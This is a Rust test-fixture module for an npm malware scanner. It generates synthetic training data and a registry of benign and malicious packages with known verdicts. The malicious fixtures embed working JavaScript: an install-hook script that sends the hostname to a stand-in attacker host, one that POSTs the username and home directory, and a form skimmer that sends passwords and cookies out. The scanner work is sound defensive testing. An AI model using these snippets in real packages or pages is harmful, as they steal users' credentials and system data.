//! Synthetic training corpora and an on-disk fixture registry whose ground
//! truth is known by construction.
#![allow(dead_code)]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use malscan::pipeline::ScanItem;
use malscan::verdict::FinalStatus;
use malscan_core::{
    build_change_vector, load_tarball, ChangeVectorF64, FeatureVectorF64, Label, MalwareHashSet, ReproduceConfig,
    UpdateType,
};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Value};

const DAY: f64 = 86_400.0;

fn features(rng: &mut ChaCha8Rng, counts: [u64; 8]) -> FeatureVectorF64 {
    let [pii_access, fs_access, process_creation, network_access, crypto_api, data_encoding, dynamic_code, install_scripts] =
        counts;
    FeatureVectorF64 {
        pii_access,
        fs_access,
        process_creation,
        network_access,
        crypto_api,
        data_encoding,
        dynamic_code,
        install_scripts,
        entropy_mean: rng.random_range(3.8..5.4),
        entropy_std: rng.random_range(0.0..1.2),
    }
}

fn log_uniform(rng: &mut ChaCha8Rng, lo: f64, hi: f64) -> f64 {
    (rng.random_range(lo.ln()..hi.ln())).exp()
}

/// An update from `prev` to `prev + delta`; entropy drifts slightly.
fn update(
    rng: &mut ChaCha8Rng,
    name: &str,
    delta: [i64; 8],
    update_type: UpdateType,
    dt: f64,
    label: Label,
) -> ChangeVectorF64 {
    let base = [3u64; 8];
    let prev = features(rng, base);
    let mut cur_counts = base;
    for (c, d) in cur_counts.iter_mut().zip(delta) {
        *c = c.saturating_add_signed(d);
    }
    let mut cur = prev;
    cur.pii_access = cur_counts[0];
    cur.fs_access = cur_counts[1];
    cur.process_creation = cur_counts[2];
    cur.network_access = cur_counts[3];
    cur.crypto_api = cur_counts[4];
    cur.data_encoding = cur_counts[5];
    cur.dynamic_code = cur_counts[6];
    cur.install_scripts = cur_counts[7];
    if delta.iter().any(|d| *d != 0) {
        cur.entropy_mean += rng.random_range(-0.15..0.15);
        cur.entropy_std += rng.random_range(-0.1..0.1);
    }
    let version = format!("1.{}.{}", rng.random_range(0..20), rng.random_range(1..30));
    build_change_vector(name, version, Some(&prev), &cur, update_type, dt)
        .unwrap()
        .with_label(label)
}

fn first(rng: &mut ChaCha8Rng, name: &str, counts: [u64; 8], label: Label) -> ChangeVectorF64 {
    let f = features(rng, counts);
    build_change_vector(name, "1.0.0", None, &f, UpdateType::First, 0.0)
        .unwrap()
        .with_label(label)
}

/// Which row shapes a synthetic corpus contains.
#[derive(Debug, Clone, Copy)]
pub struct CorpusShape {
    /// Content-identical patches published seconds after their predecessor.
    pub rapid_patches: bool,
    /// Benign first versions that declare an install hook (without network access).
    pub benign_hooks: bool,
}

/// Labelled change vectors drawn from three malicious shapes (a first
/// version with install hook plus network access, a content-identical
/// patch published seconds after its predecessor, and an update that
/// starts reading credentials and encoding them) and a benign population
/// of slow, small updates. No benign row matches a malicious shape.
pub fn synthetic_corpus(malicious: usize, benign: usize, seed: u64) -> Vec<ChangeVectorF64> {
    let shape = CorpusShape {
        rapid_patches: true,
        benign_hooks: true,
    };
    corpus_with(malicious, benign, seed, shape)
}

/// Without rapid patches or benign install hooks every malicious row is
/// isolated by one integer threshold (install hook or credential access),
/// so the classes are separable with a margin.
pub fn separable_corpus(malicious: usize, benign: usize, seed: u64) -> Vec<ChangeVectorF64> {
    let shape = CorpusShape {
        rapid_patches: false,
        benign_hooks: false,
    };
    corpus_with(malicious, benign, seed, shape)
}

pub fn corpus_with(malicious: usize, benign: usize, seed: u64, shape: CorpusShape) -> Vec<ChangeVectorF64> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let mut out = Vec::with_capacity(malicious + benign);
    for i in 0..malicious {
        let name = format!("syn-mal-{i}");
        let v = match i % 5 {
            0 | 1 => {
                let counts = [
                    rng.random_range(0..2),
                    rng.random_range(0..2),
                    rng.random_range(0..2),
                    rng.random_range(1..3),
                    0,
                    rng.random_range(0..2),
                    rng.random_range(0..2),
                    1,
                ];
                first(&mut rng, &name, counts, Label::Malicious)
            }
            2 if shape.rapid_patches => {
                let dt = rng.random_range(0.0..5.0);
                update(&mut rng, &name, [0; 8], UpdateType::Patch, dt, Label::Malicious)
            }
            _ => {
                let delta = [
                    rng.random_range(1..4),
                    0,
                    rng.random_range(0..2),
                    rng.random_range(0..2),
                    0,
                    rng.random_range(1..4),
                    rng.random_range(0..2),
                    0,
                ];
                let kind = if rng.random_bool(0.7) { UpdateType::Patch } else { UpdateType::Minor };
                let dt = log_uniform(&mut rng, 0.5 * DAY, 400.0 * DAY);
                update(&mut rng, &name, delta, kind, dt, Label::Malicious)
            }
        };
        out.push(v);
    }
    for i in 0..benign {
        let name = format!("syn-ben-{i}");
        let v = if rng.random_bool(0.25) {
            // either an install hook or network access, never both
            let hook = shape.benign_hooks && rng.random_bool(0.3);
            let counts = [
                0,
                rng.random_range(0..4),
                rng.random_range(0..2),
                if hook { 0 } else { rng.random_range(0..3) },
                rng.random_range(0..2),
                rng.random_range(0..3),
                0,
                u64::from(hook),
            ];
            first(&mut rng, &name, counts, Label::Benign)
        } else {
            let mut delta = [0i64; 8];
            let changed = rng.random_range(0..3);
            for _ in 0..changed {
                // pii and install-hook changes never appear in benign updates
                let col = [1, 2, 3, 4, 5, 6][rng.random_range(0..6)];
                delta[col] += if rng.random_bool(0.7) { rng.random_range(1..3) } else { -1 };
            }
            let kind = match rng.random_range(0..100) {
                0..=59 => UpdateType::Patch,
                60..=84 => UpdateType::Minor,
                85..=92 => UpdateType::Major,
                93..=97 => UpdateType::Prerelease,
                _ => UpdateType::Build,
            };
            let dt = log_uniform(&mut rng, 3_600.0, 500.0 * DAY);
            update(&mut rng, &name, delta, kind, dt, Label::Benign)
        };
        out.push(v);
    }
    out
}

/// Gzip tarball of `(path, content)` entries in the order given.
pub fn tarball(entries: &[(&str, &[u8])], mtime: u64) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default()));
    for (path, content) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_path(path).unwrap();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(mtime);
        header.set_cksum();
        builder.append(&header, *content).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn iso(secs: f64) -> String {
    let whole = secs.floor();
    let nanos = ((secs - whole) * 1e9).round() as u32;
    chrono::DateTime::from_timestamp(whole as i64, nanos)
        .unwrap()
        .to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
}

/// One published version: files relative to the package root.
#[derive(Debug, Clone)]
pub struct FixtureVersion {
    pub version: String,
    pub published: f64,
    pub manifest: Value,
    pub files: Vec<(String, String)>,
}

impl FixtureVersion {
    pub fn new(name: &str, version: &str, published: f64, extra: Value, files: &[(&str, &str)]) -> Self {
        let mut manifest = json!({"name": name, "version": version});
        if let (Some(m), Value::Object(extra)) = (manifest.as_object_mut(), extra) {
            m.extend(extra);
        }
        Self {
            version: version.into(),
            published,
            manifest,
            files: files.iter().map(|(p, c)| (p.to_string(), c.to_string())).collect(),
        }
    }

    pub fn entries(&self) -> Vec<(String, Vec<u8>)> {
        let mut out = vec![(
            "package/package.json".to_string(),
            serde_json::to_vec_pretty(&self.manifest).unwrap(),
        )];
        out.extend(self.files.iter().map(|(p, c)| (format!("package/{p}"), c.clone().into_bytes())));
        out
    }

    pub fn tarball(&self) -> Vec<u8> {
        let entries = self.entries();
        let refs: Vec<(&str, &[u8])> = entries.iter().map(|(p, c)| (p.as_str(), c.as_slice())).collect();
        tarball(&refs, self.published as u64)
    }
}

/// Writes `{name}.meta` and one tarball per version in the fixture layout.
pub fn write_package(dir: &Path, name: &str, versions: &[FixtureVersion]) {
    let mut vs = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    let mut created = f64::MAX;
    for v in versions {
        let bytes = v.tarball();
        let (integrity, shasum) = malscan_registry::describe_integrity(&bytes);
        let path = dir.join(format!("{name}-{}.tgz", v.version));
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &bytes).unwrap();
        let mut manifest = v.manifest.clone();
        manifest["dist"] = json!({"integrity": integrity, "shasum": shasum});
        vs.insert(v.version.clone(), manifest);
        time.insert(v.version.clone(), json!(iso(v.published)));
        created = created.min(v.published);
    }
    time.insert("created".into(), json!(iso(created)));
    let doc = json!({"name": name, "versions": vs, "time": time});
    std::fs::write(dir.join(format!("{name}.meta")), serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
}

const BENIGN_NAMES: [&str; 24] = [
    "tidy-strings",
    "array-chunker",
    "slugline",
    "deep-merge-lite",
    "config-loader",
    "tiny-logger",
    "retry-later",
    "color-ramp",
    "date-span",
    "path-globber",
    "csv-lines",
    "env-guard",
    "http-status-names",
    "uuid-short",
    "semver-label",
    "queue-pool",
    "markdown-toc-lite",
    "ini-reader",
    "byte-units",
    "event-relay",
    "range-set",
    "object-pick",
    "title-case-it",
    "watch-dir",
];

/// Library code for one benign version; `rev` changes a few lines and
/// sometimes adds a pattern-relevant call.
fn benign_source(i: usize, rev: usize) -> Vec<(String, String)> {
    let mut index = format!(
        "'use strict';\nconst path = require('path');\n\nfunction normalize{i}(input) {{\n  return String(input).trim().toLowerCase();\n}}\n\nmodule.exports = {{ normalize{i} }};\n"
    );
    if i.is_multiple_of(3) {
        index.push_str("const fs = require('fs');\nmodule.exports.load = (p) => fs.readFileSync(path.resolve(p), 'utf8');\n");
    }
    if i % 4 == 1 {
        index.push_str("const cp = require('child_process');\nmodule.exports.git = (args) => cp.execSync('git ' + args);\n");
    }
    if i % 5 == 2 {
        index.push_str("module.exports.enc = (s) => encodeURIComponent(s);\n");
    }
    for r in 0..rev {
        index.push_str(&format!(
            "\n// revision {r}\nmodule.exports.helper{r} = function (xs) {{\n  return xs.filter(Boolean).map((x, k) => x + k);\n}};\n"
        ));
        if r == 1 && i.is_multiple_of(2) {
            index.push_str("module.exports.save = (p, d) => require('fs').writeFileSync(p, d);\n");
        }
    }
    let readme = format!("# package {i}\n\nSmall utility. Revision {rev}.\n");
    vec![("index.js".into(), index), ("README.md".into(), readme)]
}

const EXFIL_JS: &str = r#"var remote = "https://attacker.controlled.host/";
var host = require("os").hostname();
require("request")(remote + "?h=" + host, function() {});
"#;

const TYPO_JS: &str = r#"const https = require("https");
const os = require("os");
const payload = JSON.stringify({ user: os.userInfo().username, home: os.homedir() });
https.request({ host: "collector.example", method: "POST", path: "/x" }).end(payload);
"#;

const STEALER_JS: &str = r#"var remote = "https://another.attacker.controlled.host/";
for (var form of document.forms) {
  for (var element of form.elements) {
    if (element.type == "password") {
      form.addEventListener('submit', function() {
        var data = [...this.elements].map(function(elt) {
           return elt.name + ":" + elt.value;
        }).join() + "|" + document.cookie;
        var enc = encodeURIComponent(btoa(data));
        this.action = remote + "?data=" + enc;
      });
      break;
    }
  }
}
"#;

const WIDGET_JS: &str = r#"export function mount(el, opts) {
  el.classList.add("jasmin-widget");
  el.textContent = opts.label || "";
  return () => el.classList.remove("jasmin-widget");
}
"#;

const CLONE_JS: &str = r#"var k = Buffer.from("aGVsbG8gd29ybGQ=", "base64").toString();
module.exports = function (x) { return x + k.length; };
"#;

const SETUP_JS: &str = r#"const https = require("https");
const fs = require("fs");
// fetches the prebuilt binary for this platform
https.get("https://downloads.example/bin/" + process.platform, (res) => {
  res.pipe(fs.createWriteStream(__dirname + "/bin.node"));
});
"#;

pub const REPRODUCIBLE: &str = "native-prebuild";
pub const CLONE: &str = "str-kit";
pub const CLONE_SOURCE: (&str, &str) = ("getcookies-evil", "0.1.1");

/// The end-to-end scan fixture.
pub struct ScanFixture {
    pub registry: PathBuf,
    pub batch: Vec<ScanItem>,
    pub expected: BTreeMap<ScanItem, FinalStatus>,
    pub hashes: MalwareHashSet,
    pub reproduce: ReproduceConfig,
}

fn git(dir: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_NAME", "fixture")
        .env("GIT_AUTHOR_EMAIL", "fixture@example.invalid")
        .env("GIT_COMMITTER_NAME", "fixture")
        .env("GIT_COMMITTER_EMAIL", "fixture@example.invalid")
        .status()
        .expect("git runs");
    assert!(status.success(), "git {args:?} failed");
}

/// Registry of 30 packages under `root/registry` (25 benign, 3 install-hook
/// exfiltrators, 1 compromised update, 1 clone of registered malware) plus
/// the source repository of the one benign package that rebuilds
/// reproducibly. The batch is the latest version of every package.
pub fn scan_fixture(root: &Path) -> ScanFixture {
    let reg = root.join("registry");
    std::fs::create_dir_all(&reg).unwrap();
    let t0 = 1_560_000_000.0;
    let mut expected = BTreeMap::new();
    let mut latest = |name: &str, versions: &[FixtureVersion], status: FinalStatus| {
        write_package(&reg, name, versions);
        let last = versions.iter().max_by(|a, b| a.published.total_cmp(&b.published)).unwrap();
        expected.insert(ScanItem::new(name, &last.version), status);
    };

    for (i, name) in BENIGN_NAMES.iter().enumerate() {
        let n = 2 + i % 3;
        let versions: Vec<FixtureVersion> = (0..n)
            .map(|rev| {
                let files = benign_source(i, rev);
                let refs: Vec<(&str, &str)> = files.iter().map(|(p, c)| (p.as_str(), c.as_str())).collect();
                let extra = if i % 7 == 3 {
                    json!({"scripts": {"install": "node-gyp rebuild"}})
                } else {
                    json!({"scripts": {"test": "node test.js"}})
                };
                let version = if rev + 1 == n && i % 6 == 5 {
                    format!("{}.0.0", rev + 1)
                } else {
                    format!("1.{rev}.{}", i % 4)
                };
                let published = t0 + (i as f64) * DAY + (rev as f64) * (3.0 + i as f64) * DAY;
                FixtureVersion::new(name, &version, published, extra, &refs)
            })
            .collect();
        latest(name, &versions, FinalStatus::Clean);
    }

    // same content republished half a millisecond later
    let hook = json!({"scripts": {"postinstall": "node test.js"}});
    let mogodb = [
        FixtureVersion::new("mogodb", "3.1.8", t0 + 40.0 * DAY + 0.100, hook.clone(), &[("test.js", EXFIL_JS)]),
        FixtureVersion::new("mogodb", "3.1.9", t0 + 40.0 * DAY + 0.1005, hook.clone(), &[("test.js", EXFIL_JS)]),
    ];
    latest("mogodb", &mogodb, FinalStatus::Flagged);
    for (name, js) in [("mongose", TYPO_JS), ("lodahs", EXFIL_JS)] {
        let v = FixtureVersion::new(name, "1.0.0", t0 + 41.0 * DAY, hook.clone(), &[("test.js", js)]);
        latest(name, &[v], FinalStatus::Flagged);
    }

    let jasmin = [
        FixtureVersion::new("jasmin", "0.0.2", t0 + 10.0 * DAY, json!({"main": "widget.js"}), &[("widget.js", WIDGET_JS)]),
        FixtureVersion::new(
            "jasmin",
            "0.0.3",
            t0 + 32.0 * DAY,
            json!({"main": "widget.js"}),
            &[("widget.js", WIDGET_JS), ("component.js", STEALER_JS)],
        ),
    ];
    latest("jasmin", &jasmin, FinalStatus::Flagged);

    let clone = [
        FixtureVersion::new(CLONE, "2.0.0", t0 + 5.0 * DAY, json!({}), &[("index.js", CLONE_JS)]),
        FixtureVersion::new(CLONE, "2.0.1", t0 + 50.0 * DAY, json!({}), &[("index.js", CLONE_JS)]),
    ];
    latest(CLONE, &clone, FinalStatus::Flagged);
    // the known sample: same files under another name, other order and mtime
    let known = FixtureVersion::new(CLONE_SOURCE.0, CLONE_SOURCE.1, 0.0, json!({}), &[("index.js", CLONE_JS)]);
    let mut entries = known.entries();
    entries.reverse();
    let refs: Vec<(&str, &[u8])> = entries.iter().map(|(p, c)| (p.as_str(), c.as_slice())).collect();
    let mut hashes = MalwareHashSet::default();
    hashes
        .register(&load_tarball(&tarball(&refs, 12345)).unwrap(), "2019-06-01")
        .unwrap();

    // benign first version that looks like an exfiltrator but rebuilds from source
    let repo = root.join("native-prebuild-src");
    std::fs::create_dir_all(&repo).unwrap();
    let url = format!("file://{}", repo.display());
    let planted = FixtureVersion::new(
        REPRODUCIBLE,
        "1.0.0",
        t0 + 45.0 * DAY,
        json!({"scripts": {"postinstall": "node setup.js"}, "repository": {"type": "git", "url": url}}),
        &[("setup.js", SETUP_JS)],
    );
    for (path, content) in planted.entries() {
        let dest = repo.join(path.strip_prefix("package/").unwrap());
        std::fs::write(dest, content).unwrap();
    }
    git(&repo, &["init", "--quiet"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "--quiet", "-m", "release"]);
    git(&repo, &["tag", "v1.0.0"]);
    latest(REPRODUCIBLE, &[planted], FinalStatus::AutoCleared);

    let reproduce = ReproduceConfig {
        build_commands: Some(vec!["git archive --format=tar.gz --prefix=package/ -o repro.tgz HEAD".into()]),
        timeout_secs: 60,
        ..ReproduceConfig::default()
    };
    let batch = expected.keys().cloned().collect();
    ScanFixture {
        registry: reg,
        batch,
        expected,
        hashes,
        reproduce,
    }
}
